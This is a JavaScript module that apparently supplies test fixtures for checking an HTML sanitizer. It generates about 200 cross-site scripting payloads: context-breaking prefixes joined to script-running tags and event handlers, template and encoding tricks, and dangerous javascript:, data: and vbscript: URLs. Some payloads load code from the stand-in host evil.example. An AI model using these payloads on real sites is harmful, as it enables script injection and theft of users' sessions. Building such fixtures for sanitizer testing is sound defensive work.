// 200 texts that would run a script or insert an element where a program treats text as markup. Their elements have
// the attribute `planted`, and their scripts call `alert`, so that the trial detects both.

/** Prefixes that end the context of the text: an element, an attribute, a comment, a script, a style, data, a link. */
const ways = [
  '',
  '">',
  "'>",
  '</script>',
  '</style></title></textarea>',
  '--></template></noscript>',
  ']]></svg></math>',
  '\u2028`;}</p></button></select>',
];

/** Markup that runs a script. */
const markup = [
  '<script planted>alert(9)</script>',
  '<SCRIPT planted src=//evil.example/a.js></SCRIPT>',
  '<script planted type=module>alert(9)</script>',
  '<script/planted/x>alert(9)</script>',
  '<img planted src=x onerror=alert(9)>',
  '<img planted src="x`" `onerror=alert(9)>',
  '<svg planted onload=alert(9)>',
  '<svg planted><script>alert(9)</script></svg>',
  '<svg planted><animate onbegin=alert(9) attributeName=x dur=1s>',
  '<math planted><mtext><style><img onerror=alert(9) src></style>',
  '<iframe planted srcdoc="<script>alert(9)</script>">',
  '<iframe planted src="javascript:alert(9)">',
  '<object planted data="data:text/html,<script>alert(9)</script>">',
  '<embed planted src="data:image/svg+xml,<svg onload=alert(9)>">',
  '<video planted><source onerror=alert(9)></video>',
  '<details planted open ontoggle=alert(9)>',
  '<body planted onpageshow=alert(9)>',
  '<input planted autofocus onfocus=alert(9)>',
  '<a planted href="java&#10;script:alert(9)">x</a>',
  '<form planted><button formaction="javascript:alert(9)">x',
  '<meta planted http-equiv=refresh content="0;url=javascript:alert(9)">',
  '<base planted href=//evil.example/>',
  '<link planted rel=stylesheet href=//evil.example/a.css>',
  '<style planted>*{background:url(//evil.example)}</style>',
];

/** Payloads without their own markup. */
const others = [
  '" onmouseover=alert(9) planted="',
  "' autofocus onfocus=alert(9) planted='",
  '{{constructor.constructor("alert(9)")()}}',
  '${alert(9)}',
  '\\u003cimg planted onerror=alert(9) src=x\\u003e',
  '&lt;img planted onerror=alert(9) src=x&gt;',
  '%3Cimg planted src=x onerror=alert(9)%3E',
  '+ADw-script+AD4-alert(9)+ADw-/script+AD4-',
];

export const payloads = [...ways.flatMap((way) => markup.map((vector) => way + vector)), ...others];

/** Payloads for address fields. All of them are refused. */
export const addresses = [
  'javascript:alert(9)',
  'JaVaScRiPt:alert(9)',
  ' javascript:alert(9)',
  'java\nscript:alert(9)',
  'javascript://a.example/%0aalert(9)',
  'data:text/html,<script>alert(9)</script>',
  'vbscript:alert(9)',
  '//evil.example/a.js',
  '\\\\evil.example',
  '/\\evil.example',
  'https:evil.example',
  'blob:https://evil.example/x',
  'view-source:https://evil.example',
];
